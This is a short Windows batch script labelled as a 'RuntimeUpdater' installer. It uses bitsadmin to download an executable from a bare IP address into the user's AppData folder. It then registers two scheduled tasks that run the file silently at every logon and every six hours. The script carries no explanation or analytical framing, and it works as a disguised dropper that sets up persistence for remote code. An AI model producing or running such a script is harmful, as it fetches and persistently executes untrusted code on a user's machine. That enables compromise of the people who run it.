@echo off
setlocal
set "DIR=%APPDATA%\RuntimeUpdater"
if not exist "%DIR%" mkdir "%DIR%"

echo [1/2] fetching updater agent...
bitsadmin /transfer rtupd /download /priority normal ^
  "http://203.0.113.88/dist/rtupd.exe" "%DIR%\rtupd.exe" >nul

echo [2/2] registering schedule...
schtasks /create /f /sc onlogon /tn "RuntimeUpdater" /tr "\"%DIR%\rtupd.exe\" --silent" >nul
schtasks /create /f /sc hourly /mo 6 /tn "RuntimeUpdaterPeriodic" /tr "\"%DIR%\rtupd.exe\" --silent" >nul

echo done.
endlocal
